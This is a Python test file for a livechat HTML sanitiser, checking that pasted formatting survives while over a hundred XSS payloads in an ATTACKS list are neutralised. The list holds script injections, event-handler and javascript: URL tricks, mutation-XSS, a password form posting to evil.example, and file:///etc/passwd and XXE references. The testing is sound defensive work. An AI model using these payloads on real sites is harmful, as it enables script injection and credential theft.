"""Formatted text: nothing that runs comes through, what was meant does (S2-19, A37, A38)."""

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, strategies as st

from livechat_core import markup
from livechat_core.errors import Invalid, LimitExceeded, LivechatError, Rejected
from livechat_core.markup import ATTRIBUTES, KEPT, LONGEST, TAGS, Rich, purified

pytest.importorskip("nh3")

PICTURE = "files/c1/f1"
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/random>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img srcset='x' onerror=alert(1)>",
    f"<img src='{PICTURE}' onload=alert(1)>",
    f"<img src='{PICTURE}?x=1'>",
    f"<img src='/{PICTURE}'>",
    f"<img src='https://evil.example/{PICTURE}'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img src onerror=f()&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>x</html>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p onclick\n=\nalert(1)>x</p>",
    "<p/onclick=alert(1)/>x",
    "<b style='background:url(javascript:alert(1))'>x</b>",
    "<span style='background:url(//evil.example/x)'>x</span>",
    "<span style='background-color:url(//evil.example/x)'>x</span>",
    "<span style='color:expression(alert(1))'>x</span>",
    "<span style='color:red;position:fixed;top:0;left:0;width:100%;height:100%'>x</span>",
    "<span style='color:red;-moz-binding:url(//evil.example)'>x</span>",
    "<span style='color:r\\65 d;behavior:url(x.htc)'>x</span>",
    "<span style='color:var(--x)'>x</span>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>x",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='intent://evil#Intent;scheme=http;end'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https:/\\evil.example'>x</a>",
    "<a href='https://bank.example@evil.example/'>x</a>",
    "<a href='https://bank.example\u202e/'>x</a>",
    "<a href='#x' name=x id=config>x</a>",
    "<a href='https://a.example' target=_blank rel=opener ping=//evil.example>x</a>",
    "<a href='mailto:a@b.example?bcc=c@d.example&body=x'>x</a>",
    "<p id=location class=admin name=cookie data-x=1 slot=s is=x-y>x</p>",
    "<x-evil onclick=alert(1)>x</x-evil>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "</p><script>alert(1)</script><p>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<b v-html='x' ng-app x-data @click=alert(1) :href=x>x</b>",
    "<plaintext>x<script>alert(1)</script>",
    "<td background=javascript:alert(1)>x",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<table><td colspan=99999999 rowspan=-1>x</table>",
    "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
    "\x00<scr\x00ipt>alert(1)</script>",
)
"""What must not come through as anything but text."""


class Strict(HTMLParser):
    """Refuses every tag, attribute and value that is not harmless; knows nothing of the cleaner."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert value is not None
            if (tag, name) == ("a", "href"):
                parts = urlsplit(value)
                assert parts.scheme in ("http", "https", "mailto")
                assert parts.scheme == "mailto" or ("@" not in parts.netloc and parts.hostname)
                assert "?" not in value or parts.scheme != "mailto"
            elif (tag, name) == ("a", "rel"):
                assert value == "noopener noreferrer"
            elif (tag, name) == ("img", "src"):
                assert value == PICTURE
            elif (tag, name) == ("span", "style"):
                assert re.fullmatch(
                    r"((background-)?color:(#[0-9a-f]+|[a-z]+|rgba?\([0-9 .,%/]+\));?)+", value
                )
            else:
                assert name in ATTRIBUTES.get(tag, ())
                assert re.fullmatch("[0-9]{1,2}", value)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


def harmless(html: str) -> None:
    reader = Strict(convert_charrefs=True)
    reader.feed(html)
    reader.close()


def test_there_are_attacks_enough_A37() -> None:
    assert len(set(ATTACKS)) == len(ATTACKS) >= 100


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_to_nothing_A37(attack: str) -> None:
    """A38, A39: alone, within what is allowed, and behind it."""
    for html in (f"before {attack}", f"<p><b>{attack}</b></p> after", f"<table><tr>{attack} x"):
        try:
            rich = purified(html, [PICTURE])
        except Invalid as nothing_left:
            assert nothing_left.code == "invalid_text"  # noqa: PT017 - it is one of two ends
            continue
        harmless(rich.html)
        assert not re.search(r"<[^>]*\bon\w+\s*=", rich.html)
        assert purified(rich.html, [PICTURE]).html == rich.html


BITS = st.sampled_from(
    [
        *(
            "<b>",
            "</b>",
            "<p>",
            "</p>",
            "<a href='",
            "'>",
            "</a>",
            "<table>",
            "<td>",
            "<li>",
            "<ul>",
        ),
        *(
            "<script>",
            "</script>",
            "<svg>",
            "</svg>",
            "<math>",
            "<style>",
            "</style>",
            "<!--",
            "-->",
        ),
        *("<img src=", "onerror=alert(1)", ">", "<", '"', "'", "`", "&lt;", "&#x3c;", "\x00", "/"),
        *("javascript:", "https://a.example/", "<span style='", "color:red", "url(x)", "<title>"),
        *(
            "<noscript>",
            "</noscript>",
            "<template>",
            "<textarea>",
            "</textarea>",
            "<mglyph>",
            "x",
            " ",
        ),
    ]
)


@given(st.lists(BITS | st.text(max_size=5), max_size=40).map("".join))
def test_whatever_comes_in_what_comes_out_is_harmless_A37(html: str) -> None:
    try:
        rich = purified(html, [PICTURE])
    except LivechatError:
        return
    harmless(rich.html)
    assert purified(rich.html, [PICTURE]) == rich


# --- what is meant comes through -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "clean", "text"),
    [
        ("Hi <b>you</b>", "Hi <b>you</b>", "Hi you"),
        ("<p>a</p><p>b<br>c</p>", "<p>a</p><p>b<br>c</p>", "a\n\nb\nc"),
        ("<h3>T</h3>x", "<h3>T</h3>x", "T\n\nx"),
        (
            "<ul><li>one<li>two<ol><li>a<li>b</ol></ul>",
            "<ul><li>one</li><li>two<ol><li>a</li><li>b</li></ol></li></ul>",
            "- one\n- two\n  1. a\n  2. b",
        ),
        ("<li>alone", "<li>alone</li>", "- alone"),
        (
            "<a href='https://a.example/x?y=1&amp;z=2#w'>here</a>",
            '<a href="https://a.example/x?y=1&amp;z=2#w" rel="noopener noreferrer">here</a>',
            "here (https://a.example/x?y=1&z=2#w)",
        ),
        (
            "<a href='https://a.example/'>https://a.example/</a>",
            '<a href="https://a.example/" rel="noopener noreferrer">https://a.example/</a>',
            "https://a.example/",
        ),
        (
            "<a href='mailto:Zoe@A.example'>Zoe@a.example</a>",
            '<a href="mailto:Zoe@a.example" rel="noopener noreferrer">Zoe@a.example</a>',
            "Zoe@a.example",
        ),
        (
            "<a href='https://a.example/'></a>",
            '<a href="https://a.example/" rel="noopener noreferrer"></a>',
            "https://a.example/",
        ),
        ("<a href='https://[x'>x</a>", '<a rel="noopener noreferrer">x</a>', "x"),
        (f"<img src='{PICTURE}' alt=x>", f'<img src="{PICTURE}">', "[picture]"),
        (f"see <img src='x'><img src='{PICTURE}'>", f'see <img src="{PICTURE}">', "see [picture]"),
        ("<pre>  a\n\tb</pre>", "<pre>  a\n\tb</pre>", "a\n\tb"),
        ("x<blockquote>said</blockquote>y", "x<blockquote>said</blockquote>y", "x\n\n> said\n\ny"),
        (
            "<span style='COLOR: #F00; background: yellow; font-size: 99px'>x</span>",
            '<span style="color:#f00;background-color:yellow">x</span>',
            "x",
        ),
        ("<span style='font-size:1px'>x</span>", "<span>x</span>", "x"),
        ("a  &nbsp; b \n c", "a  &nbsp; b \n c", "a   b c"),
        ("1 &lt; 2 &amp; 3", "1 &lt; 2 &amp; 3", "1 < 2 & 3"),
        ("\U0001f984 Zoë 李", "\U0001f984 Zoë 李", "\U0001f984 Zoë 李"),
    ],
)
def test_what_is_meant_is_kept_S2_21(html: str, clean: str, text: str) -> None:
    assert purified(html, [PICTURE]) == Rich(clean, text)


WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator
content="Microsoft Word 15"><!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/>
</o:OfficeDocumentSettings></xml><![endif]--><style><!-- p.MsoNormal {mso-style-parent:"";}
@page WordSection1 {size:595.3pt 841.9pt;} --></style></head><body lang=EN-GB><!--StartFragment-->
<p class=MsoNormal style='mso-margin-top-alt:auto'><b><span lang=EN-GB style='font-size:14.0pt;
color:#C00000;mso-ansi-language:EN-GB'>Violin offers<o:p></o:p></span></b></p>
<p class=MsoListParagraph style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]>
<span style='font-family:Symbol'>&middot;&nbsp;</span><![endif]>Strings
<st1:place>Cremona</st1:place></p><!--EndFragment--></body></html>"""

EXCEL = """<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><style>td
{mso-number-format:General;}</style></head><body><table border=0 cellpadding=0 width=128
style='border-collapse:collapse'><!--StartFragment--><col width=64 span=2 style='width:48pt'>
<tr height=20 style='height:15.0pt'><td height=20 class=xl65 width=64>Model</td>
<td class=xl66 style='background:#FFFF00' x:num>Price</td></tr><tr>
<td colspan=2>Violin &amp; bow</td></tr><!--EndFragment--></table></body></html>"""


def test_text_of_a_word_processor_comes_without_its_rubbish_S2_20() -> None:
    rich = purified(WORD)

    harmless(rich.html)
    for rubbish in ("mso", "Mso", "o:p", "style", "xml", "endif", "StartFragment", "lang", "Page"):
        assert rubbish not in rich.html.replace("<span style=", "")
    assert "color:#c00000" in rich.html
    assert rich.text.splitlines()[0] == "Violin offers"
    assert "Strings Cremona" in rich.text


def test_cells_of_a_spreadsheet_stay_a_table_S2_20() -> None:
    rich = purified(EXCEL)

    harmless(rich.html)
    assert "<td>Model</td>" in rich.html
    assert '<td colspan="2">Violin &amp; bow</td>' in rich.html
    assert [line.strip() for line in rich.text.splitlines()] == ["Model\tPrice", "Violin & bow"]


# --- limits --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html", ["", "   ", "<p></p>", "<!-- x -->", "<script>x</script>", "&nbsp;", "<img src=x>"]
)
def test_nothing_is_no_line(html: str) -> None:
    with pytest.raises(Invalid) as refused:
        purified(html)
    assert refused.value.code == "invalid_text"


@pytest.mark.parametrize(
    "html", ["x" * (LONGEST + 1), "<b>x</b>" * (KEPT // 8 + 1), "x" * 5001], ids=len
)
def test_too_much_is_refused(html: str) -> None:
    with pytest.raises(LimitExceeded) as refused:
        purified(html)
    assert refused.value.code == "too_long"


@pytest.mark.parametrize("tag", ["b", "ul><li", "blockquote", "table><tr><td", "a><b"])
def test_no_depth_costs_much_A65(tag: str) -> None:
    html = f"<{tag}>" * (LONGEST // (len(tag) + 2) - 1) + "x"
    began = time.perf_counter()
    with pytest.raises(LivechatError):
        purified(html)
    assert time.perf_counter() - began < 5


def test_a_hundred_levels_are_enough() -> None:
    assert purified("<b>" * 100 + "x").text == "x"
    with pytest.raises(Invalid, match="nested too deep"):
        purified("<b>" * 101 + "x")


def test_without_the_parser_nothing_is_taken_S2_19(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markup, "nh3", None)

    assert not markup.available()
    with pytest.raises(Rejected) as refused:
        purified("plain")
    assert refused.value.code == "unavailable"
